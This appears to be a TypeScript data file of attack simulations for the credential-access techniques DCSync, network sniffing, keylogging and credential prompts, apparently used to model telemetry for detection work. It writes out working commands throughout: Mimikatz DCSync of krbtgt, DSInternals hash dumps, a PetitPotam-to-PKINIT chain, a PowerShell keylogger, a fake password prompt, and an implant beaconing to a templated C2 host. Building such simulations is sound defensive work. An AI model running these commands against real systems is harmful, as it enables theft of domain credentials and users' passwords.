import { dcReplication, t, v } from "../dsl";

/** Credential access, continued: DCSync, sniffing, input capture and the rest of the theft tooling. */
export const credentialAccessC = [
  t(
    "T1003.006",
    "DCSync",
    "Directory replication requested by a non-DC account (Mimikatz lsadump::dcsync, secretsdump, DSInternals).",
    [
      v(
        "mimikatz-dcsync",
        [
          {
            cmd: '{{tools}}\\mimikatz.exe "lsadump::dcsync /domain:{{dns}} /user:krbtgt" exit',
            net: [
              ["@dc", 135],
              ["@dc", 49667],
            ],
            then: dcReplication("@admin", "@workstation"),
          },
        ],
        { user: "@admin", needs: ["replication rights (domain admin)"] },
      ),
      // Impacket from an attacker-controlled box on the network: only the DC sees it (NTLM with a hash).
      v(
        "secretsdump",
        [
          {
            then: [...dcReplication("@admin", "@workstation2", "NTLM", true)],
          },
        ],
        { shell: "none", needs: ["replication rights (domain admin hash)"] },
      ),
      v(
        "invoke-mimikatz",
        [
          {
            ps: "Invoke-Mimikatz -Command '\"lsadump::dcsync /domain:{{dns}} /all /csv\"'",
            net: [
              ["@dc", 135],
              ["@dc", 49667],
            ],
            then: dcReplication("@admin", "@workstation", "Kerberos", true),
          },
        ],
        { shell: "ps", user: "@admin" },
      ),
      // PetitPotam → AD CS web enrolment (ESC8) → a certificate for the DC's machine account → PKINIT TGT → DCSync as DC$.
      v(
        "petitpotam-dc-certificate",
        [
          {
            cmd: "{{tools}}\\Rubeus.exe asktgt /user:{{dc}}$ /certificate:{{tools}}\\{{dc}}.pfx /ptt /nowrap",
            reads: ["{{tools}}\\{{dc}}.pfx"],
            net: [["@dc", 88]],
            then: [
              {
                id: "pkinit",
                kind: "kerberos.tgt",
                host: "@dc",
                user: "{{dc}}$",
                source: "@workstation",
                preAuthType: "16",
                certificate: {
                  issuer: "{{domain}}-{{dc}}-CA",
                  serial: "{{certserial}}",
                  thumbprint: "{{thumb}}",
                },
              },
            ],
          },
          {
            cmd: '{{tools}}\\mimikatz.exe "lsadump::dcsync /domain:{{dns}} /user:{{domain}}\\krbtgt" exit',
            net: [
              ["@dc", 135],
              ["@dc", 49667],
            ],
            then: dcReplication("{{dc}}$", "@workstation"),
          },
        ],
        { needs: ["a certificate issued for the DC machine account (NTLM relay to AD CS)"] },
      ),
      v(
        "dsinternals",
        [
          {
            ps: "Get-ADReplAccount -All -Server {{dcfqdn}} -NamingContext 'DC={{dns}}'.Replace('.', ',DC=') | Format-Custom -View HashcatNT | Out-File {{tmp}}\\h.txt",
            net: [
              ["@dc", 135],
              ["@dc", 49667],
            ],
            files: ["{{tmp}}\\h.txt"],
            then: dcReplication("@admin", "@workstation", "Kerberos", true),
          },
        ],
        { shell: "ps", user: "@admin" },
      ),
    ],
  ),
  t("T1040", "Network sniffing", "Packet capture with netsh trace or pktmon, or Wireshark's dumpcap.", [
    v(
      "netsh-trace",
      [
        {
          cmd: "netsh trace start capture=yes tracefile={{tmp}}\\trace.etl persistent=yes maxsize=1024",
          files: ["{{tmp}}\\trace.etl"],
        },
      ],
      { elevated: true },
    ),
    v("pktmon", ["pktmon start --etw -f {{tmp}}\\pkt.etl", "pktmon stop"], { elevated: true }),
    v(
      "dumpcap",
      ['"C:\\Program Files\\Wireshark\\dumpcap.exe" -i 1 -w {{tmp}}\\cap.pcapng -a duration:600'],
      { elevated: true },
    ),
  ]),
  t("T1056", "Input capture", "A keylogger polling GetAsyncKeyState and logging keystrokes to a file.", [
    v(
      "ps-keylogger",
      [
        {
          ps: "$sig = '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int vKey);'; $api = Add-Type -MemberDefinition $sig -Name Keys -Namespace PsOneApi -PassThru; while ($true) { Start-Sleep -Milliseconds 40; for ($c = 8; $c -le 254; $c++) { $s = $api::GetAsyncKeyState($c) } }",
          files: ["{{tmp}}\\key.log"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t(
    "T1056.001",
    "Keylogging",
    "PowerShell GetAsyncKeyState loops (Get-Keystrokes) or a dropped keylogger writing to %TEMP%.",
    [
      v(
        "get-keystrokes",
        [
          { ps: "Get-Keystrokes -LogPath $env:TEMP\\key.log -Timeout 20", files: ["{{tmp}}\\key.log"] },
          {
            ps: '[DllImport("user32.dll", CharSet=CharSet.Auto, ExactSpelling=true)] public static extern short GetAsyncKeyState(int virtualKeyCode);',
          },
        ],
        { shell: "ps" },
      ),
      v(
        "setwindowshookex",
        [{ cmd: "{{appdata}}\\{{name}}.exe", files: ["{{appdata}}\\{{rand}}.dat"], keep: true }],
        { shell: "none" },
      ),
    ],
  ),
  t(
    "T1056.002",
    "GUI input capture",
    "Fake credential prompts with Get-Credential / PromptForCredential or osascript-like dialogs.",
    [
      v(
        "promptforcredential",
        [
          {
            ps: "$cred = $host.ui.PromptForCredential('Windows Security', 'Please enter user credentials', \"$env:userdomain\\$env:username\", ''); $cred.GetNetworkCredential().Password | Out-File $env:TEMP\\c.txt",
            files: ["{{tmp}}\\c.txt"],
          },
        ],
        { shell: "ps" },
      ),
      // The prompt must appear on the user's desktop: the implant in their session starts it and reads the
      // answer from standard output.
      v(
        "get-credential",
        [
          {
            cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
            as: "imp",
            parent: "@explorer",
            net: [["{{c2}}", 443]],
            keep: true,
          },
          {
            cmd: "powershell.exe -c \"$c = Get-Credential -Message 'Outlook needs your password'; $c.GetNetworkCredential() | fl\"",
            parent: "imp",
            loads: ["C:\\Windows\\System32\\credui.dll"],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t(
    "T1056.003",
    "Web portal capture",
    "A tampered login page on an internal web server logs submitted passwords.",
    [
      v(
        "owa-logon-aspx",
        [
          {
            by: "@system",
            host: "@server",
            files: [
              "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx",
            ],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
];
